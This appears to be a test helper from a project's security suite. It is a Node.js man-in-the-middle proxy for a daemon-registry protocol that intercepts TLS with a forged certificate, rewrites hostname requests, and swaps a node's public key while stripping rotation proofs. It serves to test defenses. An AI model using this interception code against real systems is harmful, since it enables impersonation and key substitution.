// An attacker between a daemon and its registry (attacks 1 and 4 of SECURITY.md): a TCP proxy that
// speaks the registry's framing ([u32 BE length][JSON]) and rewrites what passes. A client that
// opens with TLS gets the attacker's own certificate (a real man in the middle); plaintext is read
// as it comes. Usage: node registry-mitm.mjs <upstream host> <upstream port> <json options>
//   options.swapKey: { node_id, public_key }  replaces that node's public_key in replies
//   options.hostname: "x"                     rewrites the hostname of set_hostname requests
// Prints {"port":N} once listening, then one JSON line per rewrite.
import { createServer, connect as netConnect } from 'node:net';
import { TLSSocket, connect as tlsConnect } from 'node:tls';
import { createSelfSignedCertificate } from '../../../../packages/directory/dist/index.js';

const [host, portText, optionsText] = process.argv.slice(2);
const upstreamPort = Number(portText);
const options = JSON.parse(optionsText ?? '{}');
const forged = createSelfSignedCertificate();
const say = (value) => process.stdout.write(`${JSON.stringify(value)}\n`);

/** Splits a byte stream into frames, hands each JSON object to `edit`, and writes the result on. */
function relay(from, to, edit) {
  let buffer = Buffer.alloc(0);
  from.on('data', (chunk) => {
    buffer = Buffer.concat([buffer, chunk]);
    while (buffer.length >= 4) {
      const length = buffer.readUInt32BE(0);
      if (buffer.length < 4 + length) break;
      const message = JSON.parse(buffer.subarray(4, 4 + length).toString('utf8'));
      buffer = buffer.subarray(4 + length);
      const body = Buffer.from(JSON.stringify(edit(message)), 'utf8');
      const header = Buffer.alloc(4);
      header.writeUInt32BE(body.length, 0);
      to.write(Buffer.concat([header, body]));
    }
  });
  from.on('close', () => to.destroy());
  from.on('error', () => to.destroy());
}

function toServer(message) {
  if (options.hostname !== undefined && message.type === 'set_hostname') {
    say({
      rewrote: 'set_hostname',
      from: message.hostname,
      to: options.hostname,
      version: message.signature_version ?? 1,
    });
    return { ...message, hostname: options.hostname };
  }
  return message;
}

function toClient(message) {
  const swap = options.swapKey;
  if (swap === undefined) return message;
  const edit = (entry) => {
    if (
      entry?.node_id === swap.node_id &&
      typeof entry.public_key === 'string' &&
      entry.public_key !== swap.public_key
    ) {
      say({ rewrote: 'public_key', node_id: swap.node_id });
      const { previous_public_key: _p, rotation_proof: _r, ...rest } = entry;
      return { ...rest, public_key: swap.public_key };
    }
    return entry;
  };
  const edited = edit(message);
  return Array.isArray(edited.nodes) ? { ...edited, nodes: edited.nodes.map(edit) } : edited;
}

const server = createServer((raw) => {
  raw.once('data', (first) => {
    raw.pause();
    raw.unshift(first);
    if (first[0] === 0x16) {
      const client = new TLSSocket(raw, { isServer: true, key: forged.key, cert: forged.cert });
      const upstream = tlsConnect({ host, port: upstreamPort, rejectUnauthorized: false });
      client.on('error', () => upstream.destroy());
      upstream.on('error', () => client.destroy());
      relay(client, upstream, toServer);
      relay(upstream, client, toClient);
    } else {
      const upstream = netConnect({ host, port: upstreamPort });
      upstream.on('error', () => raw.destroy());
      relay(raw, upstream, toServer);
      relay(upstream, raw, toClient);
      raw.resume();
    }
  });
  raw.on('error', () => {});
});
server.listen(0, '127.0.0.1', () => say({ port: server.address().port }));
process.on('SIGTERM', () => process.exit(0));
